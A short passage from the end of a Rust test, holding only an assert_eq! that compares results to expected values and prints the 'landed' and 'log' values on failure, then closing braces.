        assert_eq!(results, want, "landed {landed:?}: {log:?}");
    }
}
